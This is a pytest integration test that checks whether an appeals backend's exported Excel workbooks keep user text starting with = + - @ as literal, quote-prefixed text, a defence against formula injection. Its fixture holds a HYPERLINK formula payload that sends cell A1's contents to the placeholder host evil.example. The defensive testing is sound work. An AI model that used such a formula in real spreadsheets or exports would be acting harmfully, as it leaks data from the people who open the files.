"""Appeals QA (pass 14, appeals7): the closed loop's reports and the enterprise's side of it.

- the weekly report and 企业问题清单 workbooks keep any text starting with = + - @ as text (formula injection);
"""

from __future__ import annotations

import io

import pytest
from openpyxl import load_workbook

from tests.integration.test_appeals2_qa_s11 import at, w  # noqa: F401  (pass 11's fixture)
from wxapp_backend.appeals import reports
from wxapp_backend.db import session_scope

MONDAY = at(2025, 11, 3, 10, 0)


# --- 1. formula injection in the exported workbooks --------------------------------------------------------------

@pytest.mark.parametrize("lead", ["=", "+", "-", "@"])
def test_exported_workbooks_keep_formula_like_text_as_text(w, db, lead):  # noqa: F811
    content = f"{lead}HYPERLINK(\"http://evil.example/?\"&A1,\"点此查看\") 我们公司的发票开不出来"
    w.submit(MONDAY, content=content)
    with session_scope() as s:
        issues = reports.issues_xlsx(reports.enterprise_issues(s))
        weekly = reports.weekly_xlsx(reports.weekly(s, "2025-W45"))
    for data, sheet in ((issues, "企业问题清单"), (weekly, "本周诉求")):
        ws = load_workbook(io.BytesIO(data))[sheet]
        cell = next(c for c in ws[2] if isinstance(c.value, str) and "发票" in c.value)
        assert cell.value == content  # the words themselves are not changed
        assert cell.data_type == "s"
        # Still text when staff edit the cell (F2, Enter) in Excel / WPS: + - @ run as formulas as = does.
        assert cell.quotePrefix is True
